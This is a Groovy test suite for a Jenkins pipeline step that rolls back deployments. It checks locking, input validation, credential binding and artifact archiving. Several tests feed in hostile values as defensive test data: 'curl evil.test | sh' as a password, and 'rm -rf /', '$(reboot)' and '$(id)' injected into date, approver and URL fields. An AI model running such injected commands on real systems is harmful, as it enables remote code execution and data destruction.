import static Fixtures.*

/** rollbackRun: lock, values and secrets to the helper, catalog hand-over, outcome to the build. */
class RollbackRunChecks {
    /** A build in which rollbackSelectDate already ran for `environment` and the approver chose 2026-11-13. */
    static void afterSelect(PipelineHarness h, String environment = 'prod') {
        helperPrintsDates(h)
        answer(h, 1, 'alice')
        h.userValues.addAll([REGISTRY, '2026-11-13', 'alice'])
        h.call('rollbackSelectDate', select(environment: environment))
    }

    static Map runArgs(Map extra = [:]) {
        [marathon: MARATHON] + extra
    }

    static Map archiveOfRun(PipelineHarness h) {
        h.callsOf('archiveArtifacts').find { it.args[0].artifacts.contains('rollback-summary.txt') }
    }

    static void register(CheckSuite suite) {
        ['prod', 'dev'].each { String environment ->
            suite.check("run: the rollback of ${environment} runs inside lock rollback-${environment}") { PipelineHarness h ->
                afterSelect(h, environment)
                helperRuns(h)
                h.call('rollbackRun', runArgs())
                String lock = "rollback-${environment}".toString()
                assert h.callsOf('lock')*.args == [[[resource: lock, variable: 'ROLLBACK_LOCK']]]
                assert helperCalls(h, 'run')*.locks == [[lock], [lock]]
                assert archiveOfRun(h).locks == [lock]
            }
        }

        suite.check('run: date and approver come from rollbackSelectDate; the approver reaches the helper as ROLLBACK_APPROVER') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h)
            h.call('rollbackRun', runArgs())
            Map env = realRuns(h)[0].env
            assert env.ROLLBACK_DATE == '2026-11-13' && env.ROLLBACK_AT == ''
            assert env.ROLLBACK_APPROVER == 'alice'
            assert env.ROLLBACK_GROUP == '/ds/prod'
            assert env.ROLLBACK_MARATHON == MARATHON && env.ROLLBACK_DCOS == '' && env.ROLLBACK_KUBERNETES == ''
            assert env.ROLLBACK_DUMP == h.workspace.path + '/rollback/prod'
            String script = realRuns(h)[0].script
            assert script.contains('set -- run --dump "$ROLLBACK_DUMP"')
            assert script.contains('if [ -n "$ROLLBACK_AT" ]; then set -- "$@" --at "$ROLLBACK_AT"; else set -- "$@" --date "$ROLLBACK_DATE"; fi')
            assert script.contains('if [ -n "$ROLLBACK_GROUP" ]; then set -- "$@" --group "$ROLLBACK_GROUP"; fi')
        }

        suite.check('run: explicit date, approver and group override the defaults') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h)
            h.userValues.addAll(['2026-11-02', 'dave', '/ds/prod-eu'])
            h.call('rollbackRun', runArgs(date: '2026-11-02', approver: 'dave', group: '/ds/prod-eu', confirm: false))
            assert realRuns(h)[0].env.subMap(['ROLLBACK_DATE', 'ROLLBACK_APPROVER', 'ROLLBACK_GROUP']) ==
                [ROLLBACK_DATE: '2026-11-02', ROLLBACK_APPROVER: 'dave', ROLLBACK_GROUP: '/ds/prod-eu']
        }

        suite.check('run: a date that is not YYYY-MM-DD is refused before the lock or any shell') { PipelineHarness h ->
            afterSelect(h)
            int shells = h.callsOf('sh').size()
            String message = failure { h.call('rollbackRun', runArgs(date: '2026-11-20; rm -rf /')) }
            assert message == "rollbackRun: date: expected YYYY-MM-DD (got '2026-11-20; rm -rf /')"
            assert h.callsOf('lock').isEmpty() && h.callsOf('sh').size() == shells
            assert failure { h.call('rollbackRun', runArgs(at: '2026-12-01 14:32:08; reboot')) }.startsWith(
                'rollbackRun: at: expected an instant like 2026-12-01T14:32:08Z')
            assert failure { h.call('rollbackRun', runArgs(date: '2026-11-20', at: '2026-12-01T14:32:08Z')) } ==
                'rollbackRun: pass date: (a day) or at: (an instant), not both'
        }

        suite.check('run: no date (nobody chose one) is refused with what to do') { PipelineHarness h ->
            String message = failure { h.call('rollbackRun', runArgs(environment: 'prod')) }
            assert message.startsWith("rollbackRun: no date: pass date: 'YYYY-MM-DD' (or at: an instant), or call rollbackSelectDate first")
            assert h.callsOf('lock').isEmpty()
        }

        suite.check('run: unknown environment is refused') { PipelineHarness h ->
            String message = failure { h.call('rollbackRun', runArgs(environment: 'qa', date: '2026-11-13')) }
            assert message.startsWith("rollbackRun: unknown environment 'qa'; known: dev, stage, prod")
            assert h.callsOf('lock').isEmpty()
        }

        suite.check('run: a typo in an argument name is refused, never ignored (dryrun is not dryRun)') { PipelineHarness h ->
            afterSelect(h)
            String message = failure { h.call('rollbackRun', runArgs(dryrun: true)) }
            assert message.startsWith("rollbackRun: unknown argument 'dryrun'; known: ")
            assert h.callsOf('lock').isEmpty()
        }

        suite.check('run: exactly one of marathon, dcos and kubernetes') { PipelineHarness h ->
            afterSelect(h)
            String one = 'rollbackRun: pass exactly one of marathon: (plain Marathon URL), dcos: (DC/OS cluster URL) or kubernetes: true'
            assert failure { h.call('rollbackRun', [:]) } == one
            assert failure { h.call('rollbackRun', [marathon: MARATHON, dcos: DCOS]) } == one
            assert failure { h.call('rollbackRun', [marathon: MARATHON, kubernetes: true]) } == one
            assert failure { h.call('rollbackRun', [marathon: 'marathon:8080']) } ==
                "rollbackRun: marathon: expected a URL like https://marathon.example.com (got 'marathon:8080')"
            assert failure { h.call('rollbackRun', [dcos: 'https://admin:hunter22@dcos.example.test']) } ==
                'rollbackRun: dcos: the URL carries a user name or password; pass them as credentialsId instead'
            assert h.callsOf('lock').isEmpty()
        }

        suite.check('run: Marathon user and password bound as MARATHON_USER/MARATHON_PASSWORD, only during sh') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h)
            h.credential('marathon-deployer', [type: 'usernamePassword', username: 'deployer', password: 'mar-pa55!'])
            h.call('rollbackRun', runArgs(credentialsId: 'marathon-deployer'))
            assert h.callsOf('withCredentials')[-1].args == [[[$class: 'usernamePassword', credentialsId: 'marathon-deployer',
                usernameVariable: 'MARATHON_USER', passwordVariable: 'MARATHON_PASSWORD']]]
            assert realRuns(h)[0].env.MARATHON_USER == 'deployer' && realRuns(h)[0].env.MARATHON_PASSWORD == 'mar-pa55!'
            assert dryRuns(h)[0].env.MARATHON_PASSWORD == 'mar-pa55!' : 'the dry run reads Marathon too'
            assert !h.env.containsKey('MARATHON_PASSWORD')
        }

        suite.check('run: DC/OS user and password bound as DCOS_USER/DCOS_PASSWORD') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h)
            h.credential('dcos-user', [type: 'usernamePassword', username: 'ops', password: 'dcos-pa55!'])
            h.call('rollbackRun', [dcos: DCOS, credentialsId: 'dcos-user'])
            assert h.callsOf('withCredentials')[-1].args == [[[$class: 'usernamePassword', credentialsId: 'dcos-user',
                usernameVariable: 'DCOS_USER', passwordVariable: 'DCOS_PASSWORD']]]
            assert realRuns(h)[0].env.subMap(['DCOS_USER', 'DCOS_PASSWORD', 'ROLLBACK_DCOS', 'ROLLBACK_MARATHON']) ==
                [DCOS_USER: 'ops', DCOS_PASSWORD: 'dcos-pa55!', ROLLBACK_DCOS: DCOS, ROLLBACK_MARATHON: '']
        }

        suite.check('run: a DC/OS service account is bound from an SSH private key credential') { PipelineHarness h ->
            afterSelect(h)
            String pem = '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n'
            h.credential('dcos-sa', [type: 'sshUserPrivateKey', username: 'rollback-sa', privateKey: pem])
            String keySeen = null
            FakeHelper fake = new FakeHelper(duringRun: { Map call, File dir ->
                keySeen = new File(call.env.DCOS_SERVICE_ACCOUNT_KEY_FILE as String).text
            }).install(h)
            h.call('rollbackRun', [dcos: DCOS, serviceAccountCredentialsId: 'dcos-sa'])
            assert h.callsOf('withCredentials')[-1].args == [[[$class: 'sshUserPrivateKey', credentialsId: 'dcos-sa',
                usernameVariable: 'DCOS_SERVICE_ACCOUNT_ID', keyFileVariable: 'DCOS_SERVICE_ACCOUNT_KEY_FILE']]]
            assert fake.runEnvs[0].DCOS_SERVICE_ACCOUNT_ID == 'rollback-sa'
            assert keySeen == pem
            assert !new File(fake.runEnvs[0].DCOS_SERVICE_ACCOUNT_KEY_FILE).exists() : 'the key file outlived the step'
            assert failure { h.call('rollbackRun', runArgs(serviceAccountCredentialsId: 'dcos-sa')) } ==
                'rollbackRun: DC/OS service accounts need dcos: (they log in to DC/OS, not to plain Marathon)'
        }

        suite.check('run: Slack webhook and registry credentials are bound next to the Marathon ones') { PipelineHarness h ->
            h.credential('registry-ro', [type: 'usernamePassword', username: 'reader', password: 'reg-pa55!'])
            h.credential('slack-hook', [type: 'string', secret: 'https://hooks.slack.test/T000/B000/XXXX'])
            h.credential('marathon-deployer', [type: 'usernamePassword', username: 'deployer', password: 'mar-pa55!'])
            helperPrintsDates(h)
            answer(h, 0)
            h.call('rollbackSelectDate', select(registryCredentialsId: 'registry-ro'))
            helperRuns(h)
            h.call('rollbackRun', runArgs(credentialsId: 'marathon-deployer', slackCredentialsId: 'slack-hook'))
            assert h.callsOf('withCredentials')[-1].args[0]*.credentialsId == ['registry-ro', 'marathon-deployer', 'slack-hook']
            assert h.callsOf('withCredentials')[-1].args[0][2] == [$class: 'string', credentialsId: 'slack-hook', variable: 'SLACK_WEBHOOK_URL']
            assert realRuns(h)[0].env.subMap(['REGISTRY_PASSWORD', 'MARATHON_PASSWORD', 'SLACK_WEBHOOK_URL']) ==
                [REGISTRY_PASSWORD: 'reg-pa55!', MARATHON_PASSWORD: 'mar-pa55!', SLACK_WEBHOOK_URL: 'https://hooks.slack.test/T000/B000/XXXX']
        }

        suite.check('run: sets the build description from the summary and archives plan, journal and summary') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h, 0, 'prod rolled back to 2026-11-13 (approved by alice): 2 services redeployed, 1 already there')
            Object summary = h.call('rollbackRun', runArgs())
            assert summary == 'prod rolled back to 2026-11-13 (approved by alice): 2 services redeployed, 1 already there'
            assert h.currentBuild.description == summary
            Map archive = archiveOfRun(h)
            assert archive.args == [[artifacts: 'rollback/prod/rollback-plan.json,rollback/prod/rollback-summary.txt,rollback/prod/rollback-journal.json',
                                     allowEmptyArchive: true]]
            assert archive.archived == ['rollback/prod/rollback-plan.json', 'rollback/prod/rollback-summary.txt', 'rollback/prod/rollback-journal.json']
        }

        suite.check('run: clears the plan and summary of an earlier build but keeps its journal for the helper to resume or rename') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h, 0, 'prod rolled back')
            h.call('rollbackRun', runArgs())
            String script = realRuns(h)[0].script
            assert script.contains('rm -f "$ROLLBACK_DUMP/rollback-plan.json" "$ROLLBACK_DUMP/rollback-summary.txt"')
            assert !(script =~ /rm [^\n]*rollback-journal/)
        }

        suite.check("run: an earlier build's journal left in the workspace is not archived as this build's") { PipelineHarness h ->
            afterSelect(h)
            FakeHelper fake = new FakeHelper(writesJournal: false, summary: 'prod: every app is already on its image of 2026-11-13').install(h)
            new File(h.workspace, 'rollback/prod/rollback-journal.json').text = '{"earlier":true}\n'
            h.call('rollbackRun', runArgs())
            assert !fake.journalWritten
            assert archiveOfRun(h).args[0].artifacts == 'rollback/prod/rollback-plan.json,rollback/prod/rollback-summary.txt'
        }

        suite.check('run: the journal check tells a journal this run wrote from one it found (the script, run by /bin/sh)') { PipelineHarness h ->
            String script = (h.binding.getVariable('rollbackRun') as VarProxy).@script.journalWrittenScript()
            File dump = new File(h.workspace, 'rollback/prod')
            dump.mkdirs()
            File journal = new File(dump, 'rollback-journal.json')
            Closure check = { -> h.runShellForReal(script, [ROLLBACK_DUMP: dump.path]).status }
            String before = (h.binding.getVariable('rollbackRun') as VarProxy).@script.journalBeforeScript()
            assert (h.binding.getVariable('rollbackRun') as VarProxy).@script.runScript().contains(before)
            Closure recordBefore = { -> assert h.runShellForReal(before, [ROLLBACK_DUMP: dump.path]).status == 0 }
            recordBefore()          // no journal before the run ...
            assert check() == 1     // ... and none after: nothing to archive
            journal.text = '{"run":1}\n'
            assert check() == 0     // written by this run
            recordBefore()          // the next build finds it ...
            assert check() == 1     // ... and leaves it untouched: not this build's
            journal.text = '{"run":2}\n'
            assert check() == 0     // rewritten (a new rollback, or a resumed one)
        }

        suite.check('run: a failed rollback fails the build after archiving the journal') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h, 1, 'prod to 2026-11-13: FAILED, shop/api reverted')
            String message = failure { h.call('rollbackRun', runArgs()) }
            assert message == 'rollbackRun: it did not finish on target (the summary and the archived journal ' +
                'say which services are where). prod to 2026-11-13: FAILED, shop/api reverted'
            assert archiveOfRun(h).archived.contains('rollback/prod/rollback-journal.json')
            assert h.currentBuild.description == 'prod to 2026-11-13: FAILED, shop/api reverted'
        }

        suite.check('run: an unreachable Marathon (exit 3) fails the build with that meaning') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h, 3, null)
            String message = failure { h.call('rollbackRun', runArgs()) }
            assert message.startsWith('rollbackRun: the registry or the orchestrator could not be reached or refused the credentials')
            assert h.currentBuild.description == 'prod to 2026-11-13: FAILED (exit 3) (approved by alice); see the log'
        }

        suite.check('run: dryRun, force, allowMissing, pinDigest, timeoutSeconds and onFailure reach the helper') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h, 0, null)
            h.call('rollbackRun', runArgs(dryRun: true, force: true, allowMissing: true, pinDigest: true, timeoutSeconds: 900, onFailure: 'keep'))
            assert realRuns(h).isEmpty()
            assert dryRuns(h)[0].env.subMap(['ROLLBACK_DRY_RUN', 'ROLLBACK_FORCE', 'ROLLBACK_ALLOW_MISSING', 'ROLLBACK_PIN_DIGEST',
                                             'ROLLBACK_TIMEOUT', 'ROLLBACK_ON_FAILURE']) ==
                [ROLLBACK_DRY_RUN: 'true', ROLLBACK_FORCE: 'true', ROLLBACK_ALLOW_MISSING: 'true', ROLLBACK_PIN_DIGEST: 'true',
                 ROLLBACK_TIMEOUT: '900', ROLLBACK_ON_FAILURE: 'keep']
            assert h.currentBuild.description == 'prod to 2026-11-13: dry run, nothing changed (approved by alice)'
            assert failure { h.call('rollbackRun', runArgs(onFailure: 'ignore')) }.startsWith("rollbackRun: onFailure: expected 'revert'")
            assert failure { h.call('rollbackRun', runArgs(timeoutSeconds: -5)) }.startsWith('rollbackRun: timeoutSeconds: expected')
        }

        suite.check('run: the options are off unless asked for') { PipelineHarness h ->
            afterSelect(h)
            helperRuns(h)
            h.call('rollbackRun', runArgs())
            assert realRuns(h)[0].env.subMap(['ROLLBACK_DRY_RUN', 'ROLLBACK_FORCE', 'ROLLBACK_ALLOW_MISSING', 'ROLLBACK_PIN_DIGEST',
                                              'ROLLBACK_TIMEOUT', 'ROLLBACK_ON_FAILURE', 'ROLLBACK_INSECURE', 'ROLLBACK_CROSS_ENVIRONMENT',
                                              'ROLLBACK_WITH_CONFIG', 'ROLLBACK_SOURCE']).values().every { it == '' }
        }

        suite.check("run: uses the catalog of rollbackSelectDate (unstash), refuses another environment's") { PipelineHarness h ->
            afterSelect(h, 'prod')
            File catalog = new File(h.workspace, 'rollback/prod/rollback.json')
            catalog.delete() // as on a fresh agent
            helperRuns(h)
            h.call('rollbackRun', runArgs())
            assert h.callsOf('unstash')*.args.contains(['rollback-catalog-prod'])
            assert catalog.isFile()
            String message = failure { h.call('rollbackRun', runArgs(environment: 'stage')) }
            assert message.startsWith("rollbackRun: no catalog of stage: call rollbackSelectDate(environment: 'stage', ...) earlier")
        }

        suite.check('run: with registry: and repos: it reads the registry itself, once, inside the lock') { PipelineHarness h ->
            helperPrintsDates(h)
            helperRuns(h)
            answer(h, 0)
            h.userValues.addAll([REGISTRY, '2026-11-02'])
            h.call('rollbackRun', runArgs(environment: 'stage', date: '2026-11-02', registry: REGISTRY, repos: 'shop/api'))
            List<Map> shells = h.callsOf('sh')
            assert shells.collect { shCommand(it) } == ['get', 'run --dry-run', 'run', 'journal check']
            assert shells[0].env.ROLLBACK_TAG_SUFFIX == 'stage' && shells[0].env.ROLLBACK_REPOS == 'shop/api'
            assert shells[2].env.ROLLBACK_DATE == '2026-11-02'
            assert shells*.locks.every { it == ['rollback-stage'] }
        }

        suite.check('run: hostile values stay out of every shell line') { PipelineHarness h ->
            Map environments = [prod: 'master']
            h.credential('marathon-deployer', [type: 'usernamePassword', username: 'x$(id)', password: '"; curl evil.test | sh; "'])
            helperPrintsDates(h)
            helperRuns(h)
            h.userValues.addAll(['https://marathon.example.test/$(reboot)', "o'brien; rm -rf /"])
            h.call('rollbackRun', [environment: 'prod', environments: environments, date: '2026-11-20',
                                   marathon: 'https://marathon.example.test/$(reboot)', approver: "o'brien; rm -rf /",
                                   credentialsId: 'marathon-deployer', registry: REGISTRY, repos: ['shop/api'], confirm: false])
            assert realRuns(h)[0].env.ROLLBACK_APPROVER == "o'brien; rm -rf /"
            assert realRuns(h)[0].env.ROLLBACK_MARATHON == 'https://marathon.example.test/$(reboot)'
            // CheckSuite then asserts that no value above appears in any sh script.
        }
    }
}
